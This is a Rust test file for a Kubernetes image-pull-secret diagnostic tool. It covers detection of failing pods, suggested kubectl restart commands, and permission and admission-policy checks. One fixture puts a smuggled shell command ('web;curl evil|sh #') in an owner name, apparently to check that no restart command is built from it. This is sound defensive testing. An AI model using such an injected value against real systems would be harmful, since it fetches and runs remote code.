use super::*;
use crate::diagnose::check::CheckResult;
use globalps_core::api::GlobalPullSecretSpec;
use serde_json::{Value, json};

fn pod(change: impl FnOnce(&mut Value)) -> Pod {
    let mut pod = json!({
        "metadata": {"name": "web-7d4f-x", "namespace": "a", "labels": {"pod-template-hash": "7d4f"},
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-7d4f", "uid": "u",
                "controller": true}]},
        "spec": {"containers": []},
        "status": {"containerStatuses": [{"name": "c", "image": "i", "imageID": "", "ready": false, "restartCount": 0,
            "state": {"waiting": {"reason": "ImagePullBackOff"}}}]},
    });
    change(&mut pod);
    serde_json::from_value(pod).expect("a Pod")
}

/// The message of the waiting container.
fn says(pod: &mut Value, message: &str) {
    pod["status"]["containerStatuses"][0]["state"]["waiting"]["message"] = json!(message);
}

#[test]
fn a_pod_failing_without_the_reference_restarts_by_its_owner() {
    let owned = |kind: &'static str| {
        move |pod: &mut Value| {
            pod["metadata"]["ownerReferences"][0]["kind"] = json!(kind);
            pod["metadata"]["ownerReferences"][0]["name"] = json!("own");
        }
    };
    let deleted = "kubectl -n a delete pod web-7d4f-x";
    for (case, pod, expected) in vec![
        (
            "of a Deployment",
            pod(|_| {}),
            Some(Some("kubectl -n a rollout restart deployment/web")),
        ),
        (
            "of a StatefulSet",
            pod(owned("StatefulSet")),
            Some(Some("kubectl -n a rollout restart statefulset/own")),
        ),
        ("of a Job", pod(owned("Job")), Some(None)),
        (
            "of a ReplicaSet alone",
            pod(owned("ReplicaSet")),
            Some(Some(deleted)),
        ),
        (
            "of a StatefulSet of another program",
            pod(|pod| {
                owned("StatefulSet")(pod);
                pod["metadata"]["ownerReferences"][0]["apiVersion"] = json!("x.example/v1");
                pod["metadata"]["ownerReferences"][0]["name"] = json!("web;curl evil|sh #");
            }),
            Some(None),
        ),
        (
            "nobody's",
            pod(|pod| pod["metadata"]["ownerReferences"] = json!([])),
            Some(None),
        ),
        (
            "with the reference",
            pod(|pod| pod["spec"]["imagePullSecrets"] = json!([{"name": "s"}])),
            None,
        ),
        (
            "with another reference",
            pod(|pod| pod["spec"]["imagePullSecrets"] = json!([{"name": "x"}])),
            Some(Some("kubectl -n a rollout restart deployment/web")),
        ),
        (
            "a static pod",
            pod(|pod| {
                let mirror = json!({"kubernetes.io/config.mirror": "x"});
                pod["metadata"]["annotations"] = mirror;
            }),
            None,
        ),
        (
            "a rejected pull",
            pod(|pod| says(pod, "failed to authorize: 401 Unauthorized")),
            Some(Some("kubectl -n a rollout restart deployment/web")),
        ),
        (
            "an image that does not exist",
            pod(|pod| says(pod, "rpc error: code = NotFound desc = i: not found")),
            None,
        ),
        (
            "a registry out of reach",
            pod(|pod| says(pod, "dial tcp: lookup r: no such host")),
            None,
        ),
        (
            "with another error",
            pod(|pod| {
                let state = json!({"waiting": {"reason": "CrashLoopBackOff"}});
                pod["status"]["containerStatuses"][0]["state"] = state;
            }),
            None,
        ),
    ] {
        let found = early_pod(&pod, &settings(), Attach::Admission, |_, _| true);
        let found = found.map(|pod| pod.restart);
        let found = found.as_ref().map(Option::as_deref);
        assert_eq!(found, expected, "{case}");
    }
}

fn settings() -> ImagePullSecrets {
    ImagePullSecrets {
        secret_name: "s".to_owned(),
        service_accounts: vec!["default".to_owned()],
        ..ImagePullSecrets::default()
    }
}

#[test]
fn a_new_pod_helps_only_if_it_gets_a_credential_for_the_image() {
    use Attach::{Admission, ServiceAccounts};
    for (account, attach, has, expected) in [
        ("default", ServiceAccounts, true, true),
        ("builder", ServiceAccounts, true, false),
        ("builder", Admission, true, true),
        ("default", Admission, false, false),
    ] {
        let pod = pod(|pod| pod["spec"]["serviceAccountName"] = json!(account));
        let found = early_pod(&pod, &settings(), attach, |namespace, image| {
            assert_eq!((namespace, image), ("a", "i"));
            has
        });
        assert_eq!(found.is_some(), expected, "{account} {attach:?} {has}");
    }
}

#[test]
fn the_command_that_restores_delivery_keeps_the_name_of_the_secrets() {
    let default = ImagePullSecrets::default().secret_name;
    for (name, expected) in [
        (
            default.as_str(),
            "kubectl globalps install --deliver-to-namespaces",
        ),
        ("s", "kubectl globalps install --deliver-to-namespaces=s"),
    ] {
        assert_eq!(install_delivery(name), expected);
    }
}

#[test]
fn without_the_admission_policy_a_new_pod_is_no_better() {
    for (attach, policy, expected) in [
        (Some(Attach::Admission), Sight::Absent, true),
        (Some(Attach::Admission), Sight::Hidden, false),
        (None, Sight::Absent, false),
    ] {
        let seen = Delivering {
            policy,
            early: early(1),
            ..well()
        };
        let checks = namespaces(&gps(attach), &seen);
        let hint = checks.last().map_or("", |check| &check.hint);
        let is_first = hint.starts_with("restore the admission policy first; create them again");
        assert_eq!(is_first, expected, "{hint}");
    }
}

fn gps(attach: Option<Attach>) -> GlobalPullSecret {
    let mut gps = GlobalPullSecret::new("g", GlobalPullSecretSpec::default());
    gps.spec.image_pull_secrets.enabled = true;
    gps.spec.image_pull_secrets.attach = attach;
    gps
}

fn role(secret: bool, service_accounts: bool) -> Sight<RoleSeen> {
    Sight::Here(RoleSeen {
        secret,
        service_accounts,
    })
}

fn well() -> Delivering {
    Delivering {
        role: role(true, false),
        policy: Sight::Here(()),
        foreign: Sight::Here(Vec::new()),
        early: Sight::Here(Vec::new()),
    }
}

fn early(number: usize) -> Sight<Vec<EarlyPod>> {
    let pods = (0..number).map(|at| EarlyPod {
        namespace: "a".to_owned(),
        name: format!("p{at}"),
        restart: Some("kubectl -n a rollout restart deployment/web".to_owned()),
    });
    Sight::Here(pods.collect())
}

#[test]
fn what_delivery_into_namespaces_misses_is_named() {
    use CheckResult::{Failure, Warning};
    let (admission, accounts) = (Some(Attach::Admission), Some(Attach::ServiceAccounts));
    for (attach, seen, expected) in [
        (admission, well(), None),
        (None, well(), None),
        (
            admission,
            Delivering {
                role: Sight::Absent,
                ..well()
            },
            Some(("namespaces-permission", Failure, "does not exist")),
        ),
        (
            admission,
            Delivering {
                role: role(false, false),
                ..well()
            },
            Some(("namespaces-permission", Failure, "allows another name")),
        ),
        (
            accounts,
            well(),
            Some(("namespaces-permission", Failure, "has no rule")),
        ),
        (
            accounts,
            Delivering {
                role: role(true, true),
                policy: Sight::Absent,
                ..well()
            },
            None,
        ),
        (
            admission,
            Delivering {
                policy: Sight::Absent,
                ..well()
            },
            Some(("admission-policy", Failure, "new pods get no reference")),
        ),
        (
            None,
            Delivering {
                policy: Sight::Absent,
                ..well()
            },
            Some((
                "admission-policy",
                Warning,
                "changes service accounts instead",
            )),
        ),
        (
            admission,
            Delivering {
                foreign: Sight::Here((0..7).map(|at| format!("n{at}")).collect()),
                ..well()
            },
            Some((
                "namespace-foreign-secret",
                Failure,
                "in 7 namespaces: n0, n1, n2, n3, n4 and 2 more",
            )),
        ),
        (
            admission,
            Delivering {
                early: early(7),
                ..well()
            },
            Some((
                "pod-without-reference",
                Warning,
                "7 pods without a reference to Secret `global-pull-secret` can't pull: a/p0, a/p1, a/p2, a/p3, a/p4 and 2 more",
            )),
        ),
    ] {
        let checks = namespaces(&gps(attach), &seen);
        let bad: Vec<&Check> = checks
            .iter()
            .filter(|c| c.result != CheckResult::Ok)
            .collect();
        let found = bad.first().map(|check| (check.name, check.result));
        assert_eq!(
            found,
            expected.map(|(name, result, _)| (name, result)),
            "{seen:?}"
        );
        if let (Some(check), Some((_, _, message))) = (bad.first(), expected) {
            assert!(check.message.contains(message), "{}", check.message);
            assert!(!check.hint.is_empty());
        }
    }
}

#[test]
fn each_workload_restarts_once_and_no_secrets_means_no_checks() {
    let mut off = gps(None);
    off.spec.image_pull_secrets.enabled = false;
    assert_eq!(namespaces(&off, &well()), []);
    let checks = namespaces(
        &gps(None),
        &Delivering {
            early: early(2),
            ..well()
        },
    );
    let hint = checks.last().map(|check| check.hint.clone());
    assert_eq!(
        hint.as_deref(),
        Some("create them again: `kubectl -n a rollout restart deployment/web`")
    );
    for (restarts, expected) in [
        (&[None, None][..], BY_HAND.to_owned()),
        (
            &[Some("x"), None],
            format!("create them again: `x`. Of the others: {BY_HAND}"),
        ),
    ] {
        let pods = restarts.iter().map(|restart| EarlyPod {
            namespace: "a".to_owned(),
            name: "p".to_owned(),
            restart: restart.map(str::to_owned),
        });
        let early = Sight::Here(pods.collect());
        let checks = namespaces(&gps(None), &Delivering { early, ..well() });
        assert_eq!(
            checks.last().map(|check| check.hint.clone()),
            Some(expected)
        );
    }
}

#[test]
fn a_role_allows_the_secret_that_it_names() {
    let role = json!({"metadata": {"name": "r"}, "rules": [
        {"verbs": ["create"], "resources": ["secrets"], "resourceNames": ["s"]},
        {"verbs": ["patch"], "resources": ["serviceaccounts"]},
    ]});
    let role: ClusterRole = serde_json::from_value(role).expect("a ClusterRole");
    for (name, expected) in [("s", true), ("other", false)] {
        let seen = RoleSeen::of(&role, name);
        assert_eq!(
            (seen.secret, seen.service_accounts),
            (expected, true),
            "{name}"
        );
    }
}
